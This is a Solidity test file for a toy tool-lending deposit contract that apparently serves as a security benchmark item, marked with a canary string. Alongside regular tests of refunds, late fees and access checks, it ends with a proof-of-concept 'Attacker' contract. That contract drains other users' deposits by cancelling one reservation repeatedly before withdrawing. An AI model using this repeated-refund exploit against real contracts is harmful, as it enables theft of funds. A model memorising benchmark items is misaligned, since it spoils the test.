// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "./ToolLibrary.sol";

// assay-canary-4651fee2-b253-4ac1-920c-f0d975b6963e

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant WARDEN = address(0x3A);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1700000000;

    ToolLibrary private library_;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        vm.startPrank(WARDEN);
        library_ = new ToolLibrary();
        for (uint256 tool = 1; tool <= 6; tool++) library_.offer(tool, 1 ether);
        vm.stopPrank();
        vm.deal(ANA, 10 ether);
        vm.deal(BEN, 10 ether);
        vm.startPrank(ANA);
        library_.reserve{value: 1 ether}(1);
        library_.reserve{value: 1 ether}(2);
        vm.stopPrank();
        vm.startPrank(BEN);
        library_.reserve{value: 1 ether}(3);
        library_.reserve{value: 1 ether}(4);
        vm.stopPrank();
        mallory = new Attacker(library_);
        vm.deal(address(mallory), 1 ether);
    }

    function status(uint256 reservation) private view returns (ToolLibrary.Status s) {
        (,,,, s) = library_.reservations(reservation);
    }

    function test_Regular() public {
        vm.startPrank(WARDEN);
        library_.handOut(0);
        library_.handOut(2);
        library_.offer(7, 2 ether);
        vm.warp(START + 14 days);
        library_.takeBack(0);
        vm.warp(START + 17 days);
        library_.takeBack(2);
        vm.stopPrank();
        require(library_.credit(ANA) == 1 ether, "in time");
        require(library_.credit(BEN) == 0.6 ether && library_.credit(WARDEN) == 0.4 ether, "four days late");
        vm.startPrank(ANA);
        library_.cancel(1);
        require(library_.withdraw() == 2 ether && ANA.balance == 10 ether, "all back");
        require(!library_.taken(1) && !library_.taken(2), "free again");
        library_.reserve{value: 1 ether}(2);
        vm.stopPrank();
        vm.prank(WARDEN);
        require(library_.withdraw() == 0.4 ether, "the fee");
        require(address(library_).balance == 2.6 ether, "what is left");
        require(status(0) == ToolLibrary.Status.Closed && status(3) == ToolLibrary.Status.Reserved, "states");
    }

    function test_RefusesToRefundLateTools() public {
        vm.prank(WARDEN);
        library_.handOut(0);
        vm.warp(START + 40 days);
        vm.prank(WARDEN);
        library_.takeBack(0);
        require(library_.credit(ANA) == 0 && library_.credit(WARDEN) == 1 ether, "too late");
    }

    function test_RefusesStrangers() public {
        vm.expectRevert("Only the warden may do this.");
        library_.offer(1, 1);
        vm.expectRevert("Only the warden may do this.");
        library_.handOut(0);
        vm.prank(WARDEN);
        library_.handOut(0);
        vm.expectRevert("Only the warden may do this.");
        library_.takeBack(0);
        vm.prank(BEN);
        vm.expectRevert("The reservation is not yours.");
        library_.cancel(1);
        vm.expectRevert("There is nothing to withdraw.");
        library_.withdraw();
    }

    function test_RefusesReserving() public {
        vm.startPrank(ANA);
        vm.expectRevert("There is no such tool.");
        library_.reserve(9);
        vm.expectRevert("The deposit is another one.");
        library_.reserve{value: 2 ether}(5);
        vm.expectRevert("The tool is taken.");
        library_.reserve{value: 1 ether}(3);
        vm.stopPrank();
        vm.prank(WARDEN);
        vm.expectRevert("A tool needs a deposit.");
        library_.offer(1, 0);
    }

    function test_RefusesOtherStates() public {
        vm.startPrank(WARDEN);
        vm.expectRevert("The tool is not lent.");
        library_.takeBack(0);
        library_.handOut(0);
        vm.expectRevert("The reservation is not open.");
        library_.handOut(0);
        vm.stopPrank();
        vm.prank(ANA);
        vm.expectRevert("The reservation is not open.");
        library_.cancel(0);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 5 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(library_);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    ToolLibrary private library_;

    constructor(ToolLibrary l) {
        library_ = l;
    }

    receive() external payable {}

    function run() external {
        uint256 mine = library_.reserve{value: 1 ether}(5);
        for (uint256 i = 0; i < 5; i++) library_.cancel(mine);
        library_.withdraw();
    }
}
